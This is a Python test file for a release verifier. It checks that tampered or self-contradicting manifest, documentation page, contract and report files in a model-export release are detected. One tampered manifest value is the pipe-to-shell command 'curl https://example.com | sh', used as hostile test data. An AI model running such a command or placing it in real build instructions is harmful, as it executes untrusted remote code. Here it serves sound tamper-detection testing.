"""Releases whose files contradict each other are refused, though nothing is signed."""

import json

import pytest

from exporter import __version__
from exporter.errors import PublishError
from exporter.releases.verify_release import verify_release


def problems(folder):
    return [(problem.kind, problem.what) for problem in verify_release(folder).problems]


@pytest.mark.parametrize(
    ("part", "value"),
    [
        ("variant", "mobilenet_v3_small_100_224"),
        ("task", "classification"),
        ("image_size", 96),
        ("rebuild", "curl https://example.com | sh"),
        ("versions", {"slim-exporter": __version__, "tensorflow": "1.0"}),
        ("checkpoint", {"name": "v3", "sha256": "c" * 64, "trained": True}),
        (
            "verification",
            {
                "reference": "the original",
                "allowance": "exact",
                "checks": {"weights": 208},
                "differing": 0,
                "max_abs": 0,
            },
        ),
    ],
)
def test_manifest_that_says_something_else(release, part, value):
    told = json.loads((release / "manifest.json").read_text())
    (release / "manifest.json").write_text(json.dumps(told | {part: value}))
    found = verify_release(release).problems
    assert {problem.what for problem in found} == {"manifest.json"}
    assert any(problem.detail.startswith(part) for problem in found)


@pytest.mark.parametrize(
    ("part", "value"), [("image_size", -1), ("model_digest", "x"), ("variant", "a\n<!-- b -->")]
)
def test_manifest_of_another_form(release, part, value):
    told = json.loads((release / "manifest.json").read_text())
    (release / "manifest.json").write_text(json.dumps(told | {part: value}))
    with pytest.raises(PublishError, match=f"is malformed: .*, found in {part}"):
        verify_release(release)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"fine-tunable: true", b"fine-tunable: false"),
        (b"11 checks: 0 numbers differ", b"999 checks: 0 numbers differ"),
        (b"None: the weights are random", b"The weights reach 65.4 % top-1, not random"),
    ],
)
def test_page_that_says_something_else(release, renewed, old, new):
    page = (release / "5.md").read_bytes()
    assert old in page
    renewed(release, "5.md", page.replace(old, new))
    assert problems(release) == [("changed", "5.md")]


def test_page_of_another_version_says_which_bytes_it_is_of(release, renewed, monkeypatch):
    monkeypatch.setattr("exporter.releases.agreement.__version__", "999")
    assert problems(release) == []
    page = (release / "5.md").read_bytes()
    renewed(release, "5.md", page.replace(b"c" * 64, b"e" * 64))
    (problem,) = verify_release(release).problems
    assert problem.detail == f"it does not say the sha256 {'c' * 64}"


def test_contract_of_another_model(release, renewed):
    locked = (release / "contract.json").read_bytes()
    renewed(release, "contract.json", locked.replace(b"feature_vector", b"features"))
    assert ("changed", "contract.json") in problems(release)
    renewed(release, "contract.json", b"{}")
    assert problems(release) == [("changed", "contract.json")]


@pytest.mark.parametrize(
    ("old", "new", "detail"),
    [
        ('"status": "passed"', '"status": "failed"', "it is not passed"),
        ('"checkpoint_sha256": "cc', '"checkpoint_sha256": "dd', "it is of another checkpoint"),
        (
            '"checkpoint_sha256": "',
            '"checkpoint_sha256": "\\n',
            "it is no report: in origin.checkp",
        ),
        ('"differing": 0', '"differing": 3', "contradicts itself: expected equal bits, found 3"),
        ('"group": "outputs"', '"group": "weights"', "found none of outputs"),
        ("{", "[", "it is no report"),
    ],
)
def test_report_that_says_something_else(release, renewed, old, new, detail):
    text = (release / "report.json").read_text()
    assert old in text
    renewed(release, "report.json", text.replace(old, new, 1).encode())
    (problem,) = verify_release(release).problems
    assert (problem.kind, problem.what) == ("changed", "report.json")
    assert detail in problem.detail
